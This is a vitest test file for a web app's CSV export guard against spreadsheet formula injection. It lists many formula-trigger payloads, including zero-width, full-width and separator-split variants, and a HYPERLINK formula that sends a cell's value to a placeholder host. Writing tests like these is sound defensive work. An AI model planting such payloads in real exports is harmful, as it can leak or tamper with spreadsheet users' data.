import { resolve } from 'node:path'
import { pathToFileURL } from 'node:url'
import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, it } from 'vitest'

/** The browser module as the web app loads it: plain JavaScript, no build step. */
interface CsvModule {
  csvField(value: unknown): string
  toCsv(rows: unknown[][]): string
}
let csv: CsvModule

beforeAll(async () => {
  csv = (await import(pathToFileURL(resolve(import.meta.dirname, '../../web/csv.js')).href)) as CsvModule
})

/** Leading characters a spreadsheet does not show, and what makes it evaluate a cell (half and full width). */
const HIDDEN = /^[\s"\u00ad\u200b-\u200f\u2060\ufeff]*/u
const TRIGGER = /^[=+\-@\t\r\u2212\ufe62\ufe63\ufe66\ufe6b\uff0b\uff0d\uff1d\uff20]/u
const NUMBER = /^-?\d+(\.\d+)?"?$/

/**
 * Every cell a reader could start anywhere in the text: it splits on the separators of every locale and on line
 * breaks and, like Excel for a quote that does not open a field, keeps quotes as text. The most credulous reader.
 */
const cellsAnyReaderSees = (text: string) => text.replace(/^\ufeff/, '').split(/[,;\t\r\n]/)

const evaluated = (text: string) =>
  cellsAnyReaderSees(text).filter((cell) => {
    const visible = cell.replace(HIDDEN, '')
    return TRIGGER.test(visible) && !NUMBER.test(visible)
  })

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '   @SUM(A1)',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u2060\u200d+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(A1)',
  'x;=1+1',
  'x,=1+1',
  'x; =1+1',
  'x\t=1+1',
  'x\n=1+1',
  'x\r\n@SUM(A1)',
  'x;\u200b\uff1d1+1',
  'a;b;-2+3',
  '=HYPERLINK("http://example.test/?"&A1,"x")',
]

describe('CSV export formula guard', () => {
  it.each(FORMULAS)(
    'given the cell %j, when exported, then it is quoted, starts with a single quote and reads back whole',
    (value) => {
      const field = csv.csvField(value)
      expect(field.startsWith(`"'`), field).toBe(true)
      const [row] = parse(csv.toCsv([['before', value, 'after']]), { bom: true }) as string[][]
      expect(row?.[0]).toBe('before')
      expect(row?.[2]).toBe('after')
      // Only single quotes are added: at the start, and after a separator where another locale's reader would split.
      expect(row?.[1]?.replace(/(^|[,;\t\r\n])'/g, '$1')).toBe(value)
    },
  )

  it('given every formula variant in one export, when read by a reader splitting on any locale separator, then no cell it sees starts a formula', () => {
    const text = csv.toCsv([FORMULAS, ['total', ...FORMULAS]])
    expect(evaluated(text)).toEqual([])
    // The same cells written without the guard are evaluated: the reader above is not too lenient to notice.
    expect(evaluated(FORMULAS.join(',')).length).toBeGreaterThanOrEqual(FORMULAS.length)
  })

  it('given numbers, plain text and text with separators, when exported, then numbers and text are unchanged and only quoted where RFC 4180 needs it', () => {
    expect(['-5', '-3.25', '42', 'Casino A', 'tag-1', 'a@b.test'].map(csv.csvField)).toEqual([
      '-5',
      '-3.25',
      '42',
      'Casino A',
      'tag-1',
      'a@b.test',
    ])
    expect(csv.csvField('Casino "B", EU')).toBe('"Casino ""B"", EU"')
    expect(csv.csvField('eu;casino')).toBe('"eu;casino"')
    expect(csv.csvField(null)).toBe('')
    expect(
      csv.toCsv([
        ['a', 1],
        ['b', -2],
      ]),
    ).toBe('\ufeffa,1\r\nb,-2\r\n')
  })
})
